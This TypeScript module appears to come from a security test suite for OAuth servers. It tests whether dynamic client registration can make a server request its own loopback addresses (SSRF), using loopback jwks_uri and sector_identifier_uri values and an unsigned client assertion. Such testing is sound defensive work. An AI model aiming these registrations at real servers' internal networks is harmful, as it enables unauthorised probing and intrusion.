/** Makes the server send a request into its own network (SSRF). */

import type { AddressInfo } from 'node:net';
import { createServer } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, skipped, succeeded, withstood } from '../attack.js';
import type { AttackContext } from '../context.js';
import { membersOf, send } from '../http.js';
import { HONEST, register, registerHonestly, registrationAttack } from './client.js';

const LOOPBACK: ReadonlySet<string> = new Set(['localhost', '127.0.0.1', '[::1]']);

/** Milliseconds within which the server would send its request. */
const PATIENCE = 300;

const ASSERTION_TYPE = 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer';

const part = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');

/** An unsigned assertion: to verify it, a server fetches the key that it names. */
function assertionOf(client: string, issuer: string): string {
  const exp = Math.floor(Date.now() / 1000) + 60;
  const claims = { iss: client, sub: client, aud: issuer, jti: `${client}-1`, exp };
  return `${part({ alg: 'ES256', kid: 'inside' })}.${part(claims)}.${Buffer.alloc(64).toString('base64url')}`;
}

/** Registers URLs with this port, and makes the server use them. */
async function lead(context: AttackContext, port: number): Promise<void> {
  const { endpoints, target } = context;
  for (const scheme of ['https', 'http'])
    for (const host of ['127.0.0.1', 'localhost']) {
      const url = `${scheme}://${host}:${port}/inside`;
      await register(context, { ...HONEST, subject_type: 'pairwise', sector_identifier_uri: url });
      const keyed = { ...HONEST, token_endpoint_auth_method: 'private_key_jwt', jwks_uri: url };
      const { client_id } = membersOf(await register(context, keyed));
      if (typeof client_id !== 'string') continue;
      const client_assertion = assertionOf(client_id, target.issuer);
      const fields = { grant_type: 'client_credentials', client_assertion_type: ASSERTION_TYPE, client_assertion };
      await send(endpoints.token, { method: 'POST', body: new URLSearchParams(fields) });
    }
}

export const fetchInside: Attack = registrationAttack(
  {
    name: 'registration-fetch-inside',
    title: 'a client registers URLs inside the network of the server, which sends requests there',
    clause: 'RFC 7591 §5',
  },
  async (context) => {
    if (!LOOPBACK.has(new URL(context.target.issuer).hostname)) return skipped('the server is on another machine');
    await registerHonestly(context);
    let connections = 0;
    const inside = createServer((socket) => {
      connections += 1;
      socket.on('error', () => {}).destroy();
    });
    await new Promise<void>((resolve) => inside.listen(0, resolve));
    try {
      await lead(context, (inside.address() as AddressInfo).port);
      await sleep(PATIENCE);
    } finally {
      inside.close();
    }
    return connections > 0 ? succeeded('the server connected to a port of its own machine') : withstood;
  },
);
